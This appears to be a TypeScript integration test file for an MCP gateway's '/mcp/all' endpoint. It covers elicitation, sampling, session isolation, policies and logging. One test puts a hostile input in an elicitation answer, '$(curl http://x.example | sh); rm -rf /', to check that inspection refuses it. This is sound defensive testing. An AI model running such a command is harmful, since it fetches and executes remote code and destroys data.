// What servers behind `/mcp/all` ask and tell the client, in both eras of clients and of servers.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client'
import { sleep } from '../../src/core/time.ts'
import { type EventReader, readEvents } from '../support/event-reader.ts'
import { EVERYTHING, everythingOverHttp } from '../support/everything.ts'
import { ERAS, type Era, nodeServer, openDoor } from '../support/mcp-door.ts'
import { openTestVault, PERSON } from '../support/vault.ts'
import { LINE_SERVER } from '../support/wrapped.ts'

const MODERN_SERVER = fileURLToPath(new URL('../support/modern-server.mjs', import.meta.url))
const vault = await openTestVault()
const { people } = vault.approvals
const { state } = people
// As a server with a public address has them.
Object.assign(people, {
  state: async (...of: Parameters<typeof state>) => ({
    ...(await state(...of)),
    url: `https://vault.example.org/approvals/${of[1]}`,
  }),
})
const { door, servers, policies } = await openDoor(vault)
const { agents, grants } = vault.identity
const logOf = (name: string): string => readFileSync(join(vault.home, `${name}.log`), 'utf8')
await servers.add(PERSON, 'old', nodeServer(EVERYTHING))
const far = await everythingOverHttp('streamableHttp')
await servers.add(PERSON, 'far', { kind: 'http', url: far.href, headers: [] })
await servers.add(PERSON, 'new', nodeServer(MODERN_SERVER, 'stdio'))
for (const name of ['one', 'two'])
  await servers.add(PERSON, name, nodeServer(LINE_SERVER, join(vault.home, `${name}.log`)))
const text = (policy: object): Buffer => Buffer.from(JSON.stringify({ version: '1', ...policy }))
await policies.set(PERSON, 'open', text({ default: 'allow' }))
const methods = { 'elicitation/create': { action: 'deny', reason: 'Nobody is asked.' } }
await policies.set(PERSON, 'unasked', text({ default: 'allow', methods }))

const echo = { action: 'require_approval' }
await policies.set(PERSON, 'allowed', text({ default: 'deny', tools: { echo } }))

let names = 0
async function keyFor(policy = 'open'): Promise<string> {
  names += 1
  const { agent, key } = await agents.create(PERSON, { name: `agent-${names}` })
  for (const server of ['old', 'far', 'new', 'one', 'two'])
    await grants.create(PERSON, agent.id, { label: server, server, policies: [policy] })
  return key.reveal()
}

async function connected(era: Era, key: string, canAnswer = true): Promise<Client> {
  const client = new Client(
    { name: `${era}-asked`, version: '1' },
    {
      capabilities: canAnswer
        ? { elicitation: { form: {}, url: {} }, sampling: {}, roots: { listChanged: true } }
        : {},
      versionNegotiation: { mode: era === 'modern' ? { pin: '2026-07-28' } : 'legacy' },
    },
  )
  if (canAnswer) {
    client.setRequestHandler('elicitation/create', async ({ params }) =>
      params.mode === 'url' ? { action: 'accept' } : { action: 'accept', content: { name: 'me' } },
    )
    client.setRequestHandler('roots/list', async () => ({ roots: [{ uri: 'file:///mine' }] }))
    client.setRequestHandler('sampling/createMessage', async () => ({
      role: 'assistant',
      content: { type: 'text', text: 'it said' },
      model: 'mine',
    }))
  }
  const headers = { Authorization: `Bearer ${key}` }
  const url = new URL(`${door.baseUrl}/mcp/all`)
  await client.connect(new StreamableHTTPClientTransport(url, { requestInit: { headers } }))
  return client
}

for (const era of ERAS) {
  test(`${era}: servers of both eras ask what the client declared, and each hears its answer`, async () => {
    const client = await connected(era, await keyFor())
    const said = async (name: string, args: Record<string, unknown> = {}): Promise<string> =>
      JSON.stringify((await client.callTool({ name, arguments: args })).content)
    const names = (await client.listTools()).tools.map(({ name }) => name)
    for (const needed of ['elicitation', 'sampling'])
      assert.ok(names.includes(`old.trigger-${needed}-request`), names.join(' '))
    const asked = await Promise.all([
      said('old.trigger-elicitation-request'),
      said('old.trigger-sampling-request', { prompt: 'Say it.' }),
      said('new.ask'),
      said('far.trigger-elicitation-request'),
      said('far.trigger-sampling-request', { prompt: 'Say it.' }),
      said('new.visit'),
      said('new.many'),
    ])
    assert.match(asked[0], /Name: me/)
    assert.match(asked[1], /it said/)
    assert.match(asked[2], /hello me/)
    assert.match(asked[3], /Name: me/)
    assert.match(asked[4], /it said/)
    assert.match(asked[5], /visit: accept/)
    assert.match(asked[6], /file:\/\/\/mine it said/)
    await client.close()
  })

  test(`${era}: of a client that declares nothing nothing is asked, and no server is told otherwise`, async () => {
    const client = await connected(era, await keyFor(), false)
    const { tools } = await client.listTools()
    assert.ok(tools.some(({ name }) => name === 'old.echo'))
    assert.ok(!tools.some(({ name }) => /^old\.trigger-(?:elicitation|sampling)-/.test(name)))
    const answer = await client.callTool({ name: 'one.ask_and_wait', arguments: {} })
    assert.match(JSON.stringify(answer.content), /Method not found/)
    await client.close()
  })

  test(`${era}: what a policy denies is not asked here either`, async () => {
    const client = await connected(era, await keyFor('unasked'))
    client.setRequestHandler('elicitation/create', async () => assert.fail('it was asked'))
    const old = await client.callTool({ name: 'one.ask_and_wait', arguments: {} })
    assert.match(JSON.stringify(old), /Nobody is asked\./)
    const asked = client.callTool({ name: 'new.ask', arguments: {} })
    assert.match(JSON.stringify(await asked.catch(String)), /Nobody is asked\.|not answer/)
    await client.close()
  })
}

for (const era of ERAS)
  test(`${era}: who makes a call that a person has to allow is sent to the page, and hears the answer`, async () => {
    const key = await keyFor('allowed')
    const visited: string[] = []
    const visit = async (url: string, message: string): Promise<'accept'> => {
      visited.push(url)
      const id = /\(([^()]+)\)\.$/.exec(message)?.[1] ?? assert.fail(message)
      await vault.approvals.approvals.decide(PERSON, id, 'approve')
      return 'accept'
    }
    const client = await door.connect(era, key, undefined, visit, '/mcp/all')
    const answer = await client.callTool({ name: 'one.echo', arguments: { text: `yes, ${era}` } })
    assert.deepEqual(answer.content, [{ type: 'text', text: `yes, ${era}` }])
    assert.equal(visited.length, 1)
    await client.close()
  })

const CAPABILITIES = { elicitation: {}, sampling: {}, roots: {}, experimental: { x: {} } }

/** A client with a session, by hand. */
async function session(key: string) {
  const bearing = { Authorization: `Bearer ${key}` }
  const hello = await door.post(
    {
      jsonrpc: '2.0',
      id: 'hello',
      method: 'initialize',
      params: {
        protocolVersion: '2025-06-18',
        capabilities: CAPABILITIES,
        clientInfo: { name: 'by hand', version: '1' },
      },
    },
    bearing,
    '/mcp/all',
  )
  await hello.text()
  const id = hello.headers.get('mcp-session-id') ?? assert.fail('no session')
  const headers = { ...bearing, 'Mcp-Session-Id': id, 'MCP-Protocol-Version': '2025-06-18' }
  const post = (message: object) => door.post({ jsonrpc: '2.0', ...message }, headers, '/mcp/all')
  const url = `${door.baseUrl}/mcp/all`
  return {
    post,
    call: (id: unknown, name: string, args: object = {}, more: RequestInit = {}) =>
      fetch(url, {
        method: 'POST',
        headers: {
          ...headers,
          'Content-Type': 'application/json',
          Accept: 'application/json, text/event-stream',
        },
        body: JSON.stringify({
          jsonrpc: '2.0',
          id,
          method: 'tools/call',
          params: { name, arguments: args },
        }),
        ...more,
      }),
    listen: () => fetch(url, { headers: { ...headers, Accept: 'text/event-stream' } }),
    end: () => fetch(url, { method: 'DELETE', headers }),
  }
}

async function reached(name: string, pattern: RegExp): Promise<RegExpExecArray> {
  for (let tries = 0; tries < 300; tries += 1) {
    const found = pattern.exec(logOf(name))
    if (found !== null) return found
    await sleep(10)
  }
  return assert.fail(`${pattern.source} did not reach the server: ${logOf(name)}`)
}

/** How many answers of clients the audit holds. */
async function answersRecorded(): Promise<number> {
  await vault.ledger.flush()
  const calls = await vault.audit.query({ limit: 1_000, action: 'method.call' })
  return calls.filter(({ body }) => body.includes('"answer":true')).length
}

const answerOf = async (events: EventReader): Promise<string> =>
  JSON.stringify((await events.next()).result)

test('legacy: servers that ask under one id at once are each answered, on the streams of their calls', async () => {
  const { post, call } = await session(await keyFor())
  const asking = { _meta: { progressToken: 7 } }
  const one = readEvents(await call('a', 'one.ask_and_wait', asking))
  const two = readEvents(await call('b', 'two.ask_and_wait', asking))
  const [first, second] = [await one.next(), await two.next()]
  assert.deepEqual(
    [first, second].map(({ method }) => method),
    ['elicitation/create', 'elicitation/create'],
  )
  assert.notEqual(first.id, second.id)
  // The token of each is its server's own.
  const { progressToken } = (second.params ?? {})['_meta'] as { progressToken: unknown }
  assert.notEqual(progressToken, 7)
  const params = { progressToken, progress: 1 }
  assert.equal((await post({ method: 'notifications/progress', params })).status, 202)
  await reached('two', /"method":"notifications\/progress".*"progressToken":7/)
  assert.doesNotMatch(logOf('one'), /notifications\/progress/)
  for (const [question, name] of [
    [second, 'two'],
    [first, 'one'],
  ] as const) {
    const result = { action: 'accept', content: { name } }
    assert.equal((await post({ id: question.id, result })).status, 202)
  }
  assert.match(await answerOf(one), /\{\\"name\\":\\"one\\"\}/)
  assert.match(await answerOf(two), /\{\\"name\\":\\"two\\"\}/)
  await Promise.all([one.ended, two.ended])
  // They were told of the client what is theirs to know.
  const [, told] = await reached('one', /"method":"initialize","params":(.*by hand.*)\}$/m)
  assert.deepEqual(JSON.parse(told ?? ''), {
    protocolVersion: '2025-06-18',
    capabilities: { sampling: {}, elicitation: {}, roots: {} },
    clientInfo: { name: 'by hand', version: '1' },
  })
})

test('legacy: places that two servers send the person to under one id are told apart', async () => {
  const { post, call } = await session(await keyFor())
  const elicitationId = 'the-same'
  const place = { mode: 'url', url: 'https://a.example/', elicitationId }
  for (const name of ['one', 'two']) {
    const events = readEvents(await call(name, `${name}.ask_and_wait`, place))
    const { id, params } = await events.next()
    assert.equal(params?.['elicitationId'], `${name}.the-same`)
    await post({ id, result: { action: 'accept' } })
    await events.next()
    const been = readEvents(await call('been', `${name}.been_there`, { elicitationId }))
    assert.deepEqual(await been.next(), {
      jsonrpc: '2.0',
      method: 'notifications/elicitation/complete',
      params: { elicitationId: `${name}.the-same` },
    })
    const away = await (await call('go', `${name}.go_there`, place)).text()
    assert.ok(away.includes(`"elicitationId":"${name}.the-same"`), away)
  }
})

test('legacy: a server that does not take subscriptions says so itself', async () => {
  const { post } = await session(await keyFor())
  const params = { uri: 'mcp://one/a://b' }
  const answer = await post({ id: 's', method: 'resources/subscribe', params })
  const { error } = (await answer.json()) as { error?: { code: number; message: string } }
  assert.equal(error?.code, -32601)
  assert.doesNotMatch(error.message, /reachable/)
})

test('legacy: one session neither hears nor answers what another is asked', async () => {
  const key = await keyFor()
  const [mine, other] = [await session(key), await session(key)]
  const events = readEvents(await mine.call('a', 'one.ask_and_wait'))
  const { id } = await events.next()
  await other.post({ id, result: { action: 'accept', content: { name: 'not me' } } })
  const theirs = readEvents(await other.listen())
  await mine.post({ id, result: { action: 'decline' } })
  assert.match(await answerOf(events), /decline/)
  assert.match(await (await other.call('b', 'one.echo', { text: 'x' })).text(), /"text":"x"/)
  await theirs.close()
})

test('legacy: what belongs to no call goes on the stream that is kept open, and without one is refused', async () => {
  const { post, call, listen } = await session(await keyFor())
  const recorded = await answersRecorded()
  await (await call(1, 'one.ask_later')).text()
  await reached('one', /"id":"from-server","error":\{"code":-32603,"message":"The client is not/)
  // These words are ours, and no answer of the client.
  assert.equal(await answersRecorded(), recorded)
  const events = readEvents(await listen())
  await (await call(2, 'one.ask_later')).text()
  const { id, method } = await events.next()
  assert.equal(method, 'roots/list')
  await post({ id, result: { roots: [{ uri: 'file:///later' }] } })
  await reached('one', /"id":"from-server","result":\{"roots":\[\{"uri":"file:\/\/\/later"/)
  assert.equal(await answersRecorded(), recorded + 1)
  await post({ method: 'notifications/roots/list_changed' })
  await reached('one', /"method":"notifications\/roots\/list_changed"/)
  await events.close()
})

test('legacy: whoever leaves in the middle leaves no server without an answer, and a session ends once', async () => {
  const { call, end } = await session(await keyFor())
  const leaving = new AbortController()
  const events = readEvents(
    await call('left', 'two.ask_and_wait', { message: 'Left?' }, { signal: leaving.signal }),
  )
  assert.equal((await events.next()).method, 'elicitation/create')
  leaving.abort()
  await reached('two', /"id":"from-server","error":\{"code":-32603,"message":"The client is not/)
  const ended = readEvents(await call('ended', 'two.ask_and_wait', { message: 'Ended?' }))
  await ended.next()
  const refusals = (): number => logOf('two').match(/"error":.*The client is not/g)?.length ?? 0
  const before = refusals()
  assert.deepEqual([(await end()).status, (await end()).status], [204, 404])
  await ended.ended
  for (let tries = 0; tries < 300 && refusals() === before; tries += 1) await sleep(10)
  assert.equal(refusals(), before + 1)
})

test('legacy: what a server asked that died is taken back', async () => {
  const { call, listen } = await session(await keyFor())
  const own = readEvents(await listen())
  const events = readEvents(await call('a', 'one.ask_and_die'))
  const { id, method } = await events.next()
  assert.equal(method, 'elicitation/create')
  const taken = await events.next()
  assert.deepEqual([taken.method, taken.params?.['requestId']], ['notifications/cancelled', id])
  assert.match(JSON.stringify(await events.next()), /ended before it answered/)
  await own.close()
})

test('legacy: the idlest of many sessions gives way, and is served as one that declared nothing', async () => {
  const key = await keyFor()
  const first = await session(key)
  const heard = readEvents(await first.listen())
  const second = await session(key)
  for (let more = 2; more < 33; more += 1) await session(key)
  const late = await second.call('late', 'one.ask_and_wait')
  assert.match(await late.text(), /Method not found/)
  const events = readEvents(await first.call('kept', 'one.ask_and_wait'))
  assert.equal((await events.next()).method, 'elicitation/create')
  await events.close()
  await heard.close()
})

test('legacy: an answer that inspection refuses does not reach the server', async () => {
  const { post, call } = await session(await keyFor())
  const events = readEvents(await call('h', 'one.ask_and_wait'))
  const { id } = await events.next()
  const content = { name: '$(curl http://x.example | sh); rm -rf /' }
  await post({ id, result: { action: 'accept', content } })
  assert.match(await answerOf(events), /The answer was refused\./)
})

const META = {
  'io.modelcontextprotocol/protocolVersion': '2026-07-28',
  'io.modelcontextprotocol/clientCapabilities': { elicitation: { form: {} } },
}

/** A call that stands alone, by hand. */
const alone = (
  key: string,
  name: string,
  more: object = {},
  meta: object = {},
  path = '/mcp/all',
) =>
  door.post(
    {
      jsonrpc: '2.0',
      id: 'mine',
      method: 'tools/call',
      params: { name, arguments: {}, ...more, _meta: { ...META, ...meta } },
    },
    {
      Authorization: `Bearer ${key}`,
      'MCP-Protocol-Version': '2026-07-28',
      'Mcp-Method': 'tools/call',
      'Mcp-Name': name,
    },
    path,
  )

test('modern: a round goes on at the server that asked, with its state, and nowhere else', async () => {
  const key = await keyFor()
  type Round = {
    result: { resultType: string; requestState: string; inputRequests: Record<string, unknown> }
    error?: { code: number }
  }
  for (const server of ['one', 'two']) {
    const name = `${server}.ask_and_wait`
    const { result } = (await (await alone(key, name)).json()) as Round
    assert.equal(result.resultType, 'input_required')
    const [asked = ''] = Object.keys(result.inputRequests)
    const inputResponses = { [asked]: { action: 'accept', content: { name: server } } }
    const back = { requestState: result.requestState, inputResponses }
    const other = server === 'one' ? 'two' : 'one'
    const refused = (await (await alone(key, `${other}.ask_and_wait`, back)).json()) as Round
    assert.equal(refused.error?.code, -32602)
    const stranger = (await (await alone(await keyFor(), name, back)).json()) as Round
    assert.equal(stranger.error?.code, -32602)
    const done = await (await alone(key, name, back)).text()
    assert.match(done, new RegExp(`name\\\\+":\\\\+"${server}`))
  }
})

test('legacy: a server that asks under a token which is too long is told so, however it is written', async () => {
  const { call } = await session(await keyFor())
  const escaped = { _meta: { progressToken: '"'.repeat(1_000) } }
  const asked = readEvents(await call('e', 'two.ask_and_wait', escaped))
  assert.equal((await asked.next()).method, 'elicitation/create')
  await asked.close()
  const asking = { _meta: { progressToken: 'x'.repeat(1_001) } }
  const answer = await (await call('a', 'one.ask_and_wait', asking)).text()
  assert.match(answer, /'progressToken' must be a text or a number, of 1000/)
})

for (const era of ERAS)
  test(`${era}: progress and what a server logs come on the stream of the call`, async () => {
    const key = await keyFor()
    const logLevel = { 'io.modelcontextprotocol/logLevel': 'info', progressToken: 'mine' }
    let events: EventReader
    if (era === 'modern') events = readEvents(await alone(key, 'new.work', {}, logLevel))
    else {
      const { post } = await session(key)
      const level = { id: 1, method: 'logging/setLevel', params: { level: 'info' } }
      assert.deepEqual(await (await post(level)).json(), { jsonrpc: '2.0', id: 1, result: {} })
      const none = await post({ id: 2, method: 'logging/setLevel', params: { level: 'loud' } })
      assert.match(await none.text(), /-32602/)
      const params = { name: 'new.work', arguments: {}, _meta: { progressToken: 'mine' } }
      events = readEvents(await post({ id: 'mine', method: 'tools/call', params }))
    }
    const [progress, logged, answer] = [
      await events.next(),
      await events.next(),
      await events.next(),
    ]
    assert.deepEqual(progress.params, { progressToken: 'mine', progress: 1, total: 2 })
    assert.equal(logged.method, 'notifications/message')
    assert.equal(logged.params?.['data'], 'half way')
    assert.equal(answer.id, 'mine')
  })

for (const [path, name] of [
  ['/s/new/mcp', 'work'],
  ['/mcp/all', 'new.work'],
] as const)
  test(`modern: at ${path} what the server logs comes to the client that asked for it, and to no other`, async () => {
    const key = await keyFor()
    const { agent } = await agents.create(PERSON, { name: `asking-${path}` })
    const asked = { label: 'new', server: 'new', policies: ['open'] }
    const { bearer } = await grants.create(PERSON, agent.id, asked)
    const shown = path === '/mcp/all' ? key : bearer.reveal()
    const log = { 'io.modelcontextprotocol/logLevel': 'info' }
    assert.match(await (await alone(shown, name, {}, {}, path)).text(), /done/)
    const quiet = alone(shown, name, { arguments: { ms: 1_000 } }, {}, path)
    await sleep(300)
    assert.match(await (await alone(shown, name, {}, log, path)).text(), /half way/)
    assert.doesNotMatch(await (await quiet).text(), /half way/)
  })
